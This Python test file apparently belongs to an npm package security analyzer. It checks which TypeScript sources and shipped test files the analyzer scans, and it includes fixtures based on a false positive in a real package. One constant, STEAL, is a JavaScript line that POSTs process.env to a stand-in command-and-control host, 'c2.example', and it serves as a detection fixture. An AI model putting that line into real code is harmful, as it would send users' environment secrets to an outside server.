"""Which TypeScript files and shipped tests the code analyzer reads: the ones something runs (package.py,
analysis.read_package)."""

from __future__ import annotations

import json

from npmward.analyzers.base import AnalysisContext
from npmward.analyzers.code import CodeAnalyzer
from npmward.analyzers.code.analysis import read_package
from npmward.analyzers.code.budget import Budget
from npmward.analyzers.code.package import compiled_twins, ts_sources_run
from npmward.model import Artifact, PackageId

STEAL = "require('https').request({ host: 'c2.example', method: 'POST' }).end(JSON.stringify(process.env));\n"


def test_sources_beside_their_compiled_output_are_twins():
    paths = ["src/index.ts", "src/v4/core.ts", "v4/core.js", "dist/index.js", "lib/cjs/util/x.cjs", "src/util/x.ts",
             "src/alone.ts", "scripts/build.ts", "index.d.ts"]
    assert compiled_twins(paths) == {"src/index.ts", "src/v4/core.ts", "src/util/x.ts"}


def test_manifest_fields_that_hand_sources_to_a_bundler():
    assert ts_sources_run({"react-native": "src/index.ts"})       # Metro builds from the sources
    assert ts_sources_run({"exports": {".": {"bun": "./src/index.ts", "default": "./dist/index.js"}}})
    assert not ts_sources_run({"exports": {".": {"@zod/source": "./src/index.ts", "require": "./index.cjs"}}})
    assert not ts_sources_run({"main": "dist/index.js", "types": "dist/index.d.ts"})


def _findings(manifest: dict, files: dict[str, str]):
    data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in files.items()}}
    art = Artifact(PackageId(manifest["name"], manifest["version"]), data, manifest, "test")
    return {f.file for f in CodeAnalyzer().analyze(AnalysisContext(artifact=art)) if f.rule.startswith("code/")}


def test_a_source_without_a_twin_or_named_by_react_native_is_read():
    base = {"name": "t", "version": "1.0.0", "main": "dist/index.js"}
    files = {"dist/index.js": "module.exports = 1;\n", "src/index.ts": "export const x = 1;\n", "src/extra.ts": STEAL}
    assert "src/extra.ts" in _findings(base, files)                                   # no compiled twin
    twin = {**files, "dist/extra.js": "module.exports = 2;\n"}
    assert "src/extra.ts" not in _findings(base, twin)                                # its twin is what runs
    assert "src/extra.ts" in _findings({**base, "react-native": "src/extra.ts"}, twin)  # Metro runs the source


# @google/gemini-cli-core@0.61.0's shape: a shared helper (`sanitizeHostname`) returns, for every caller at once, what
# each hands it; its shipped test hands it a public IP, its OAuth callback server a request's field. Linked, the test
# made the DNS lookup "copy what requests carry to an IP address it names", at load: login-capture, critical.
SAFE_LOOKUP = """import * as dns from 'node:dns/promises';
export function sanitizeHostname(hostname) {
    return hostname.replace(/^\\[|\\]$/g, '').toLowerCase();
}
export function isAddressPrivate(address) {
    const sanitized = sanitizeHostname(address);
    return sanitized === 'localhost' || sanitized.startsWith('10.') || sanitized.startsWith('127.');
}
export function safeLookup(hostname, options, callback) {
    const sanitized = sanitizeHostname(hostname);
    dns.lookup(sanitized, { all: true }).then((addresses) => callback(null, addresses), callback);
}
"""
CALLBACK_SERVER = """import * as http from 'node:http';
import { isAddressPrivate } from './fetch.js';
export function startCallbackServer(port) {
    return http.createServer((req, res) => {
        const url = new URL(req.url, 'http://localhost');
        const redirect = url.searchParams.get('redirect_uri');
        if (redirect && isAddressPrivate(new URL(redirect).hostname)) {
            res.end('ok');
        }
    }).listen(port);
}
"""
SAFE_LOOKUP_TEST = """import { describe, it, expect } from 'vitest';
import { isAddressPrivate } from './fetch.js';
describe('isAddressPrivate', () => {
    it('flags private and reserved ranges', () => {
        expect(isAddressPrivate('10.0.0.1')).toBe(true);
        expect(isAddressPrivate('192.0.2.1')).toBe(true);
    });
});
"""


def test_a_javascript_test_only_its_runner_loads_is_not_linked():
    manifest = {"name": "t", "version": "1.0.0", "type": "module", "main": "dist/index.js"}
    files = {"dist/index.js": "export * from './fetch.js';\nexport * from './oauth-flow.js';\n",
             "dist/fetch.js": SAFE_LOOKUP, "dist/oauth-flow.js": CALLBACK_SERVER, "dist/fetch.test.js": SAFE_LOOKUP_TEST}
    assert _findings(manifest, files) == set()
    data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in files.items()}}
    assert "dist/fetch.test.js" not in read_package(manifest, data, Budget.unlimited())[2].files
    # What a hook runs, or a module loads, is read, test or not.
    hooked = {**manifest, "scripts": {"postinstall": "node dist/fetch.test.js"}}
    assert "dist/fetch.test.js" in read_package(hooked, data, Budget.unlimited())[2].files
    loaded = {**files, "dist/index.js": files["dist/index.js"] + "import './fetch.test.js';\n"}
    data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in loaded.items()}}
    assert "dist/fetch.test.js" in read_package(manifest, data, Budget.unlimited())[2].files
